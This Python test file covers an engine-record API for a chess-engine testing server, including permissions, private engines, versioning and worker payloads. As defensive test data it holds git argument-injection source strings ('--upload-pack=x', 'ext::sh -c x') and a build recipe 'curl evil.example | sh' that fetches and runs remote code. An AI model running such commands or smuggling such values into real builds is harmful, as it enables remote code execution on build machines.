"""Engine records through the JSON API, and what workers are told of them."""

import re
from collections.abc import AsyncIterator

import httpx
import msgspec
import pytest

from rookery.core.model.engine import EngineRecord
from rookery.core.model.machine import Machine
from rookery.core.protocol import v1
from rookery.server.identity.users import User
from rookery.server.worker_api.outgoing import Payloads
from tests.makers import ROOKERY, make_machine, pairs
from tests.people import BORIS, OLGA, SVEN
from tests.wire.apis import Api, Json, open_api
from tests.wire.secrets.plants import with_password, worker_of

pytestmark = pytest.mark.anyio

ETHEREAL: Json = {"name": "Ethereal", "speed": {"reference": 1_000_000}}
OURS: Machine = make_machine("ours", rookery=ROOKERY)


@pytest.fixture
async def api() -> AsyncIterator[Api]:
    async with open_api() as opened:
        yield opened


async def put(api: Api, record: Json, user: User = BORIS) -> httpx.Response:
    headers = dict(await api.headers(user))
    return await api.visitor.put(f"/api/v1/engines/{record['name']}", json=record, headers=headers)


async def test_an_engine_is_written_read_and_removed(api: Api) -> None:
    made = await put(api, ETHEREAL)
    assert made.status_code == 201
    assert (await put(api, ETHEREAL)).status_code == 200
    found = await api.get("/api/v1/engines/Ethereal")
    assert msgspec.json.decode(found.content, type=EngineRecord).speed.reference == 1e6
    listed = msgspec.json.decode((await api.get("/api/v1/engines")).content, type=v1.EngineList)
    names = [record.name for record in listed.engines]
    assert names == ["Ethereal", "Fledgling", "Stockfish", "uploaded"]
    headers = dict(await api.headers(BORIS))
    gone = await api.visitor.delete("/api/v1/engines/Ethereal", headers=headers)
    assert gone.status_code == 200
    assert (await api.get("/api/v1/engines/Ethereal")).status_code == 404


@pytest.mark.parametrize("source", ["--upload-pack=x", "ext::sh -c x", "ssh://git@127.0.0.1/x"])
async def test_a_source_that_is_none_is_refused_with_its_field(api: Api, source: str) -> None:
    refused = await put(api, {"name": "Tiny", "source": source})
    assert refused.status_code == 400
    assert "source: " in refused.json()["error"]
    assert (await api.get("/api/v1/engines/Tiny")).status_code == 404


async def test_not_everybody_may_write(api: Api) -> None:
    assert (await api.visitor.put("/api/v1/engines/Ethereal", json=ETHEREAL)).status_code == 401
    assert (await put(api, ETHEREAL, OLGA)).status_code == 403


STRIX: Json = {"name": "owls~Strix", "team": "owls", "private": True}


async def two_teams(api: Api) -> None:
    """Olga's has a private engine; Sven has one of his own."""
    await api.post("/api/v1/teams", OLGA, {"name": "owls"})
    await api.post("/api/v1/teams", SVEN, {"name": "crows"})
    assert (await put(api, STRIX, OLGA)).status_code == 201


@pytest.mark.parametrize("user", [SVEN, BORIS])
@pytest.mark.parametrize("team", ["owls", "crows"])
async def test_to_write_a_private_engine_is_refused_as_if_there_were_none(
    api: Api, user: User, team: str
) -> None:
    await two_teams(api)
    answers = [
        await put(api, {"name": name, "team": team}, user)
        for name in ("owls~Strix", "owls~Other", "nobody~Strix")
    ]
    assert {answer.status_code for answer in answers} == {403}
    texts = {re.sub(r"\b\w+~\w+", "", answer.json()["error"]) for answer in answers}
    assert len(texts) == 1


@pytest.mark.parametrize("user", [SVEN, BORIS])
async def test_to_remove_a_private_engine_is_refused_as_if_there_were_none(
    api: Api, user: User
) -> None:
    await two_teams(api)
    headers = dict(await api.headers(user))
    for path in ("", "/versions", "/restore"):
        method = {"": "DELETE", "/versions": "GET", "/restore": "POST"}[path]
        said = [
            await api.visitor.request(
                method, f"/api/v1/engines/{name}{path}", json={"version": 1}, headers=headers
            )
            for name in ("owls~Strix", "owls~Other")
        ]
        texts = {answer.json()["error"].replace("Strix", "Other") for answer in said}
        assert ({answer.status_code for answer in said}, len(texts)) == ({404}, 1)


async def test_what_machines_build_is_what_the_approver_saw(api: Api) -> None:
    await api.post("/api/v1/teams", OLGA, {"name": "owls"})
    good = {"kind": "commands", "commands": ["make"]}
    harmless: Json = {"name": "Strix", "team": "owls", "recipe": good}
    await put(api, harmless, OLGA)
    run_id = await api.submitted(OLGA, new_engine="Strix")
    seen = (await api.get(f"/api/v1/runs/{run_id}", BORIS)).json()
    assert seen["new_record"]["recipe"] == good
    evil = {"kind": "commands", "commands": ["curl evil.example | sh"]}
    assert (await put(api, {**harmless, "recipe": evil}, OLGA)).status_code == 200
    approve = f"/api/v1/runs/{run_id}/approve"
    refused = await api.post(approve, BORIS)
    assert (refused.status_code, seen["records"] in refused.text) == (409, True)
    assert (await api.post(approve, BORIS, {"records": "f" * 16})).status_code == 409
    assert (await api.post(approve, BORIS, {"records": seen["records"]})).status_code == 200
    await put(api, {**harmless, "recipe": evil, "share": 2}, OLGA)
    run = await api.fleet.views.known_run((await api.granted(OURS)).run)
    told = msgspec.json.decode(
        msgspec.json.encode(Payloads(api.site.engines.record_for_worker).args(run, ours=True))
    )
    assert told["new_record"] == harmless


async def test_what_was_written_is_listed_and_restored(api: Api) -> None:
    await put(api, ETHEREAL)
    await put(api, {**ETHEREAL, "share": 2})
    found = (await api.get("/api/v1/engines/Ethereal/versions")).json()["versions"]
    assert [(each["version"], each["changed_by"]) for each in found] == [(1, "boris"), (2, "boris")]
    restored = await api.post("/api/v1/engines/Ethereal/restore", BORIS, {"version": 1})
    assert restored.json()["engines"] == [ETHEREAL]
    gone = await api.post("/api/v1/engines/Ethereal/restore", BORIS, {"version": 0})
    assert gone.json()["engines"] == []


async def test_a_built_in_record_is_replaced_by_those_alone_who_say_so(api: Api) -> None:
    answer = await put(api, {"name": "Stockfish"})
    assert (answer.status_code, "built in" in answer.text) == (409, True)
    headers = dict(await api.headers(BORIS))
    place = "/api/v1/engines/Stockfish?replace=true"
    said = await api.visitor.put(place, json={"name": "Stockfish"}, headers=headers)
    assert said.status_code == 200


async def test_a_built_in_record_that_nobody_changed_is_said_to_be_one(api: Api) -> None:
    told = (await api.get("/api/v1/engines/Stockfish/versions")).json()["error"]
    assert told.endswith(": Stockfish is built in, and its record has not been changed.")
    undone = await api.post("/api/v1/engines/Stockfish/restore", BORIS, {"version": 0})
    assert (undone.status_code, "built in" in undone.text) == (404, True)
    unknown = await api.get("/api/v1/engines/Minnow/versions")
    assert "There is no engine Minnow" in unknown.text


async def test_a_bad_record_is_refused_with_the_field(api: Api) -> None:
    answer = await put(api, {**ETHEREAL, "recipe": {"kind": "magic"}})
    assert answer.status_code == 400
    assert "recipe.kind" in answer.text
    headers = dict(await api.headers(BORIS))
    other = await api.visitor.put("/api/v1/engines/Other", json=ETHEREAL, headers=headers)
    assert (other.status_code, "name" in other.text) == (400, True)


async def test_a_run_of_an_unknown_engine_is_refused_with_those_that_are_known(api: Api) -> None:
    await put(api, ETHEREAL)
    with pytest.raises(AssertionError, match=r"new_engine.*Ethereal, Fledgling, Stockfish"):
        await api.submitted(BORIS, new_engine="Nobody")


async def test_a_run_has_the_needs_of_its_engines_record(api: Api) -> None:
    await put(api, ETHEREAL)
    run_id = await api.submitted(BORIS, new_engine="Ethereal", base_engine="Ethereal")
    run = await api.fleet.views.known_run(run_id)
    assert run.reference_nps == 1e6
    assert "recipe:make" in map(str, run.demands.needs)


async def test_a_worker_of_ours_is_told_the_record_of_each_side_that_is_not_plain_stockfish(
    api: Api,
) -> None:
    await put(api, ETHEREAL)
    await api.submitted(BORIS, new_engine="Ethereal")
    task = await api.granted(OURS)
    run = await api.fleet.views.known_run(task.run)
    told = msgspec.json.decode(
        msgspec.json.encode(Payloads(api.site.engines.record_for_worker).args(run, ours=True))
    )
    assert told["new_record"] == ETHEREAL
    assert "base_record" not in told


async def test_an_engine_of_unknown_speed_is_not_scaled_until_a_worker_has_told_it(
    api: Api,
) -> None:
    await put(api, {"name": "Tiny"})
    tiny: Json = {"new_engine": "Tiny", "base_engine": "Tiny"}
    first = await api.fleet.views.known_run(await api.submitted(BORIS, **tiny))
    assert not first.plan.is_scaled
    await with_password(api, OLGA)
    worker = worker_of(api, OLGA, "abcdef01", nps=10_000.0)
    await worker.request_task()
    played = {"runner": "match", "runner_version": "1", "factor": 1.0}
    await worker.update(pairs(even=15), rookery=played)
    second = await api.fleet.views.known_run(await api.submitted(BORIS, **tiny))
    assert (second.plan.is_scaled, second.reference_nps) == (True, 10_000)


async def test_the_engine_with_the_larger_share_is_played_more(api: Api) -> None:
    for name, share in (("Small", 1), ("Large", 3)):
        await put(api, {"name": name, "share": share})
        await api.submitted(BORIS, new_engine=name, base_engine=name)
    given = [
        (await api.granted(make_machine(f"m{number}", rookery=ROOKERY))).run for number in range(4)
    ]
    engines = [(await api.fleet.views.known_run(run_id)).plan.engine for run_id in given]
    assert engines.count("Large") == 3
